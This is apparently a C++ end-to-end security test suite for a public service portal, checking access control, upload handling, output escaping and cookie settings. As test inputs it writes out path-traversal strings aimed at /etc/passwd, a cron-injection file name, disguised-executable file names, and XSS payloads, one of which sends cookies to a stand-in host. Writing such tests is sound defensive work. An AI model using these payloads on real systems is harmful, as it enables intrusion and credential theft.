// Who reaches what: another request's code or a neighbouring number finds nothing
// (AC-17), staff outside a request's procedure find nothing, paths and file names
// never leave the storage (AC-13), disguised executables are refused on every
// channel (AC-11), and a report's text is shown as text, never run (AC-15).
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <memory>
#include <regex>
#include <sstream>

#include "client.hpp"
#include "server.hpp"

namespace lapis::e2e {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

class Access : public ::testing::Test {
protected:
    static void SetUpTestSuite()
    {
        server = std::make_unique<LapisServer>();
        std::vector<StaffAccount> made = server->add_users({
            { "helpdesk@uji.lapis", "Hana Helpdesk", { "helpdesk" } },
            { "verifikator@uji.lapis", "Vera Verifikator", { "verifikator" } },
            { "penilai@uji.lapis", "Nilam Penilai", { "tim-penilai" } },
        });
        helpdesk = made[0];
        verifikator = made[1];
        penilai = made[2];
        helpdesk_token = server->add_token(helpdesk.email);
        penilai_token = server->add_token(penilai.email);
        server->start();
        // Signed in once each: a second factor step is good for one sign-in only.
        desk = std::make_unique<StaffClient>(*server, helpdesk);
        outsider = std::make_unique<StaffClient>(*server, penilai);
    }
    static void TearDownTestSuite()
    {
        desk.reset();
        outsider.reset();
        server.reset();
    }

    void SetUp() override
    {
        if (!server || !server->running())
            GTEST_FAIL() << "the server did not start";
    }

    static Submitted report(const FormSample& form = valid_form("pelaporan-insiden", "insiden"))
    {
        Submitted sent = submit_api(*server, form);
        EXPECT_EQ(sent.status, 201) << sent.reply.body;
        return sent;
    }

    static httplib::Headers bearer(const std::string& token)
    {
        return { { "Authorization", "Bearer " + token } };
    }

    static json staff_view(const std::string& number)
    {
        Reply reply = get(*server, "/api/v1/requests/" + number, bearer(helpdesk_token));
        EXPECT_EQ(reply.status, 200) << reply.body;
        return reply.status == 200 ? reply.json() : json::object();
    }

    static std::size_t helpdesk_queue_size()
    {
        Reply reply = get(*server, "/api/v1/queue", bearer(helpdesk_token));
        EXPECT_EQ(reply.status, 200);
        return reply.json()["queues"]["helpdesk"].size();
    }

    static inline std::unique_ptr<LapisServer> server;
    static inline StaffAccount helpdesk, verifikator, penilai;
    static inline std::string helpdesk_token, penilai_token;
    static inline std::unique_ptr<StaffClient> desk; // the helpdesk
    static inline std::unique_ptr<StaffClient> outsider; // tim-penilai: in no procedure here
};

std::string with_sequence(const std::string& number, long sequence)
{
    char digits[16];
    std::snprintf(digits, sizeof digits, "%06ld", sequence);
    return number.substr(0, number.size() - 6) + digits;
}

std::string lower(std::string text)
{
    for (char& c : text)
        c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    return text;
}

// Whether `html` holds any of the AC-15 payloads as live markup. Text the
// templates escape never holds a raw quote, so dropping every quoted attribute
// value leaves only markup the page itself wrote, plus whatever got through.
::testing::AssertionResult runs_nothing(const std::string& html)
{
    const std::string page = lower(html);
    const std::string markup = std::regex_replace(page, std::regex("\"[^\"]*\""), "\"\"");
    for (const char* live : { "<script", "<img", "<details open" }) {
        if (markup.find(live) != std::string::npos)
            return ::testing::AssertionFailure() << "live markup " << live;
    }
    for (const char* handler : { "onerror", "ontoggle", "onload", "onclick" }) {
        if (std::regex_search(markup, std::regex(std::string("<[^>]*\\s") + handler + "\\s*=")))
            return ::testing::AssertionFailure() << "a live " << handler << " attribute";
    }
    if (std::regex_search(page, std::regex(R"(href\s*=\s*"?\s*javascript:)")))
        return ::testing::AssertionFailure() << "a javascript: link";
    return ::testing::AssertionSuccess();
}

::testing::AssertionResult forbids_inline_script(const Reply& reply)
{
    const std::string policy = reply.header("Content-Security-Policy");
    if (policy.empty())
        return ::testing::AssertionFailure() << "no Content-Security-Policy";
    if (policy.find("unsafe-inline") != std::string::npos
        || policy.find("unsafe-eval") != std::string::npos)
        return ::testing::AssertionFailure() << "the policy allows inline script: " << policy;
    if (policy.find("script-src 'self'") == std::string::npos
        && policy.find("default-src 'self'") == std::string::npos)
        return ::testing::AssertionFailure() << "the policy does not limit scripts: " << policy;
    return ::testing::AssertionSuccess();
}

TEST_F(Access, AnotherRequestsCodeOrANeighbouringNumberFindsNothing)
{
    Submitted a = report();
    Submitted b = report();
    const std::string unknown = with_sequence(a.number, 999999);
    const Reply page_reference = track_page(*server, unknown, a.code);
    const Reply api_reference = track_api(*server, unknown, a.code);
    ASSERT_EQ(page_reference.status, 404);
    ASSERT_EQ(api_reference.status, 404);

    std::vector<std::string> numbers = { b.number };
    for (long delta : { -2L, -1L, 1L, 2L }) {
        const long sequence = sequence_of(a.number) + delta;
        if (sequence > 0)
            numbers.push_back(with_sequence(a.number, sequence));
    }
    for (const std::string& number : numbers) {
        SCOPED_TRACE(number);
        Reply page = track_page(*server, number, a.code);
        EXPECT_EQ(page.status, 404);
        EXPECT_EQ(page.body, page_reference.body);
        Reply api = track_api(*server, number, a.code);
        EXPECT_EQ(api.status, 404);
        EXPECT_EQ(api.body, api_reference.body);
        EXPECT_EQ(
            get(*server, "/lacak/" + number + "/surat/surat-rekomendasi?kode=" + a.code).status,
            404);
    }

    // Nor can A's code move B.
    EXPECT_EQ(requester_act(*server, b.number, a.code, "withdraw").status, 404);
    Reply api_move = post_json(*server, "/api/v1/requests/" + b.number + "/actions?code=" + a.code,
        { { "action", "withdraw" } });
    EXPECT_EQ(api_move.status, 404);
    EXPECT_EQ(api_move.body, api_reference.body);
    Reply b_now = track_api(*server, b.number, b.code);
    ASSERT_EQ(b_now.status, 200);
    EXPECT_EQ(b_now.json()["status"], "berjalan");
    EXPECT_EQ(b_now.json()["history"].size(), 1u);
}

TEST_F(Access, StaffOutsideTheProcedureFindNothing)
{
    Submitted incident = report();
    Submitted certificate = report(valid_form("sertifikat-elektronik", "penerbitan"));
    const json view = staff_view(incident.number);
    ASSERT_FALSE(view["attachments"].empty());
    const std::string attachment = std::to_string(view["attachments"][0]["id"].get<long long>());
    const std::string unknown = with_sequence(incident.number, 999999);

    const Reply reference = outsider->request_page(unknown);
    ASSERT_EQ(reference.status, 404);
    Reply page = outsider->request_page(incident.number);
    EXPECT_EQ(page.status, 404);
    EXPECT_EQ(page.body, reference.body);
    EXPECT_EQ(page.body.find("Halaman depan situs diganti"), std::string::npos);
    EXPECT_EQ(
        outsider->get("/staf/permohonan/" + incident.number + "/lampiran/" + attachment).status,
        404);
    EXPECT_EQ(
        outsider->get("/staf/permohonan/" + certificate.number + "/surat/surat-rekomendasi").status,
        404);
    EXPECT_EQ(outsider->act(incident.number, { { "aksi", "complete" } }).status, 404);
    EXPECT_EQ(outsider->get("/staf").body.find(incident.number), std::string::npos);

    // The helpdesk acts on incidents, not on certificates.
    EXPECT_EQ(desk->request_page(certificate.number).status, 404);
    EXPECT_EQ(
        desk->get("/staf/permohonan/" + certificate.number + "/surat/surat-rekomendasi").status,
        404);

    // The API answers the same.
    Reply api = get(*server, "/api/v1/requests/" + incident.number, bearer(penilai_token));
    EXPECT_EQ(api.status, 404);
    EXPECT_EQ(api.body.find("Halaman depan situs diganti"), std::string::npos);
    EXPECT_EQ(post_json(*server, "/api/v1/requests/" + incident.number + "/actions",
                  { { "action", "complete" } }, bearer(penilai_token))
                  .status,
        404);
    Reply queue = get(*server, "/api/v1/queue", bearer(penilai_token));
    ASSERT_EQ(queue.status, 200);
    EXPECT_EQ(queue.body.find(incident.number), std::string::npos);
}

TEST_F(Access, TooLongAnAddressOrTooManyHeadersIsAnsweredNotDropped)
{
    Reply long_url = get(*server, "/lacak?nomor=" + std::string(9000, 'A'));
    EXPECT_EQ(long_url.status, 414);
    EXPECT_NE(long_url.body.find("terlalu panjang"), std::string::npos);

    httplib::Headers many;
    for (int i = 0; i < 120; ++i)
        many.emplace("X-Extra-" + std::to_string(i), "1");
    EXPECT_EQ(get(*server, "/", many).status, 431);
    EXPECT_EQ(get(*server, "/", { { "X-Big", std::string(10000, 'b') } }).status, 431);
    EXPECT_EQ(get(*server, "/").status, 200); // the server is still there
}

TEST_F(Access, EncodedTraversalInAPathIsNotFound)
{
    Submitted sent = report();
    const std::string base = "/staf/permohonan/" + sent.number + "/lampiran/";
    const std::vector<std::string> paths = { base + "..%2f..%2fetc%2fpasswd",
        base + "1%2f..%2f..%2fetc%2fpasswd", base + "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        base + "..%5c..%5cetc%5cpasswd", base + "%2e%2e", base + "1%00",
        "/aset/css/..%2f..%2fetc%2fpasswd", "/aset/css/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/aset/css/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/aset/css/..%5c..%5cetc%5cpasswd",
        "/aset/css/%2e%2e", "/aset/css/../../etc/passwd", "/aset/css/..%252f..%252fetc%252fpasswd",
        "/aset/css/pico.min.css%00.txt" };
    for (const std::string& path : paths) {
        SCOPED_TRACE(path);
        Reply reply = desk->get(path);
        EXPECT_EQ(reply.status, 404);
        EXPECT_EQ(reply.body.find("root:"), std::string::npos);
        EXPECT_EQ(reply.header("Content-Type").find("octet-stream"), std::string::npos);
    }
    EXPECT_EQ(desk->get("/aset/css/pico.min.css").status, 200);
}

TEST_F(Access, UploadNameWithAPathIsStoredAsItsLastComponentInsideTheStorage)
{
    const fs::path cron = "/etc/cron.d/x.txt";
    const bool cron_existed = fs::exists(cron);
    const std::string content = "* * * * * root touch /tmp/lapis-e2e-traversal\n";
    const std::vector<std::pair<std::string, std::string>> names = { { "../../etc/cron.d/x.txt",
                                                                         "x.txt" },
        { "..\\..\\windows\\win.ini.txt", "win.ini.txt" }, { "/etc/passwd.txt", "passwd.txt" } };
    for (const auto& [name, shown] : names) {
        SCOPED_TRACE(name);
        FormSample form = valid_form("pelaporan-insiden", "insiden");
        form.set_file({ "bukti", name, "text/plain", content });
        Submitted html = submit_html(*server, form);
        ASSERT_EQ(html.status, 303) << html.reply.body;
        Submitted api = report(form);
        for (const Submitted* sent : { &html, &api }) {
            const json view = staff_view(sent->number);
            json stored;
            for (const json& file : view["attachments"]) {
                if (file["field"] == "bukti")
                    stored = file;
            }
            ASSERT_FALSE(stored.is_null()) << view;
            EXPECT_EQ(stored["name"], shown);
            Reply download = desk->get("/staf/permohonan/" + sent->number + "/lampiran/"
                + std::to_string(stored["id"].get<long long>()));
            ASSERT_EQ(download.status, 200);
            EXPECT_EQ(download.body, content);
        }
    }

    // Nothing outside the data directory: not in the server's directory beside it,
    // not where the names point from the data or the file store, not in /etc.
    if (!cron_existed)
        EXPECT_FALSE(fs::exists(cron));
    const fs::path data = server->data_dir();
    const fs::path root = data.parent_path();
    for (const auto& entry : fs::directory_iterator(root)) {
        const std::string name = entry.path().filename().string();
        EXPECT_TRUE(name == "data" || name == "stdout.log" || name == "stderr.log")
            << "written beside the data directory: " << entry.path();
    }
    for (const fs::path& from : { data, data / "files", fs::current_path() }) {
        const fs::path target = (from / "../../etc/cron.d/x.txt").lexically_normal();
        if (target != cron)
            EXPECT_FALSE(fs::exists(target)) << target;
    }
    bool stored_inside = false;
    for (const auto& entry : fs::recursive_directory_iterator(data)) {
        const std::string name = entry.path().filename().string();
        EXPECT_NE(name, "x.txt") << entry.path();
        EXPECT_NE(name, "cron.d") << entry.path();
        EXPECT_NE(name, "win.ini.txt") << entry.path();
        if (entry.is_regular_file() && entry.file_size() == content.size()) {
            std::ifstream in(entry.path(), std::ios::binary);
            std::ostringstream bytes;
            bytes << in.rdbuf();
            stored_inside = stored_inside || bytes.str() == content;
        }
    }
    EXPECT_TRUE(stored_inside) << "the upload is not under " << data;
}

TEST_F(Access, NulInAFileNameIsRefused)
{
    const std::size_t before = helpdesk_queue_size();
    FormSample form = valid_form("pelaporan-insiden", "insiden");
    form.set_file(pdf_file("bukti", "a.txt%00.pdf"));
    Submitted html = submit_html(*server, form);
    EXPECT_EQ(html.status, 422) << html.reply.body;
    Submitted api = submit_api(*server, form);
    EXPECT_EQ(api.status, 422) << api.reply.body;
    if (api.status == 422)
        EXPECT_TRUE(api.reply.json()["errors"].contains("bukti")) << api.reply.body;
    EXPECT_EQ(helpdesk_queue_size(), before);
}

TEST_F(Access, DisguisedExecutablesAreRefusedOnTheFormAndOnTheApi)
{
    const std::string pe = std::string("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", 16)
        + std::string(48, '\0') + "This program cannot be run in DOS mode.\r\n";
    const std::string pdf = pdf_file("bukti").bytes;
    const std::vector<std::pair<std::string, std::string>> files = { { "surat_tugas.pdf.exe", pdf },
        { "surat_tugas.PDF.Exe", pdf }, { "laporan.exe.pdf", pe }, { "laporan\u202Efdp.exe", pdf },
        { "skrip.pdf.", pdf }, { "skrip.pdf ", pdf }, { "laporan.pdf", pe } };
    const std::size_t before = helpdesk_queue_size();
    for (const auto& [name, bytes] : files) {
        SCOPED_TRACE("\"" + name + "\"");
        FormSample form = valid_form("pelaporan-insiden", "insiden");
        form.set_file({ "bukti", name, "application/pdf", bytes });
        Submitted html = submit_html(*server, form);
        EXPECT_EQ(html.status, 422) << html.reply.body;
        EXPECT_TRUE(html.number.empty());
        Submitted api = submit_api(*server, form);
        EXPECT_EQ(api.status, 422) << api.reply.body;
        if (api.status == 422)
            EXPECT_TRUE(api.reply.json()["errors"].contains("bukti")) << api.reply.body;
    }
    EXPECT_EQ(helpdesk_queue_size(), before) << "a refused upload left a request behind";
}

TEST_F(Access, ReportTextIsShownAsTextNeverRunAndEveryPageForbidsInlineScript)
{
    FormSample form = valid_form("pelaporan-insiden", "kerentanan");
    const std::string name = "<script>fetch('//x.example/'+document.cookie)</script>";
    const std::string title = R"("><img src=x onerror=alert(1)>)";
    const std::string description = "<details open ontoggle=alert(2)>\n"
                                    R"x(<a href="javascript:alert(3)">bukti</a>)x"
                                    "\n[klik](javascript:alert(4))";
    form.values["nama"] = name;
    form.values["judul"] = title;
    form.values["deskripsi"] = description;
    Submitted sent = submit_html(*server, form);
    ASSERT_EQ(sent.status, 303) << sent.reply.body;

    std::vector<std::pair<std::string, Reply>> pages;
    Reply queue = desk->get("/staf");
    ASSERT_EQ(queue.status, 200);
    EXPECT_NE(queue.body.find(html_escape(title)), std::string::npos);
    EXPECT_NE(queue.body.find(html_escape(name)), std::string::npos);
    pages.emplace_back("queue", queue);

    Reply detail = desk->request_page(sent.number);
    ASSERT_EQ(detail.status, 200);
    for (const std::string& text : { name, title }) {
        EXPECT_NE(detail.body.find(html_escape(text)), std::string::npos) << text;
    }
    EXPECT_NE(detail.body.find("&lt;details open ontoggle=alert(2)&gt;"), std::string::npos);
    EXPECT_NE(detail.body.find("[klik](javascript:alert(4))"), std::string::npos);
    pages.emplace_back("staff request", detail);

    // A note to the requester with markup of its own, shown on the tracking page.
    const std::string note = "<script>alert(5)</script> Mohon kirim <img src=x onerror=alert(6)>";
    Reply returned = desk->act(sent.number, { { "aksi", "return" }, { "catatan", note } });
    ASSERT_EQ(returned.status, 303) << returned.body;
    Reply tracking = track_page(*server, sent.number, sent.code);
    ASSERT_EQ(tracking.status, 200);
    EXPECT_NE(tracking.body.find(html_escape(note)), std::string::npos);
    pages.emplace_back("tracking", tracking);
    pages.emplace_back("staff request after the note", desk->request_page(sent.number));

    for (auto& [label, page] : pages) {
        SCOPED_TRACE(label);
        EXPECT_TRUE(runs_nothing(page.body));
        EXPECT_NE(page.body.find("&lt;script&gt;"), std::string::npos);
        EXPECT_TRUE(forbids_inline_script(page));
    }

    FormSample refused = form;
    refused.values["email"] = "bukan-alamat";
    Submitted invalid = submit_html(*server, refused);
    EXPECT_EQ(invalid.status, 422);
    EXPECT_TRUE(runs_nothing(invalid.reply.body));
    EXPECT_TRUE(forbids_inline_script(invalid.reply));
    for (const std::string& path : { std::string("/"), std::string("/layanan/pelaporan-insiden"),
             std::string("/layanan/pelaporan-insiden/ajukan?jenis=kerentanan"),
             std::string("/lacak"), std::string("/masuk"), std::string("/bantuan"),
             std::string("/tidak-ada"), std::string("/api/v1/services"),
             "/lacak/" + sent.number + "?kode=salah", std::string("/verifikasi/tidak-ada") }) {
        SCOPED_TRACE(path);
        EXPECT_TRUE(forbids_inline_script(get(*server, path)));
    }
}

// StaffClient keeps only the cookie's value, so this repeats its first request
// (POST /masuk with email and password) to read the attributes of the session
// cookie that sign-in sets; later stages set it through the same code.
TEST_F(Access, SessionCookieIsHttpOnlyAndSameSiteLax)
{
    Reply login = post_form(
        *server, "/masuk", { { "email", helpdesk.email }, { "password", helpdesk.password } });
    ASSERT_EQ(login.status, 303) << login.body;
    std::string cookie;
    for (auto [at, end] = login.headers.equal_range("Set-Cookie"); at != end; ++at) {
        if (at->second.rfind("lapis_sesi=", 0) == 0)
            cookie = at->second;
    }
    ASSERT_NE(cookie.find("lapis_sesi="), std::string::npos) << cookie;
    EXPECT_NE(cookie.find("; HttpOnly"), std::string::npos) << cookie;
    EXPECT_NE(cookie.find("; SameSite=Lax"), std::string::npos) << cookie;
    EXPECT_NE(cookie.find("; Path=/"), std::string::npos) << cookie;
    EXPECT_TRUE(forbids_inline_script(login));
}

} // namespace
} // namespace lapis::e2e
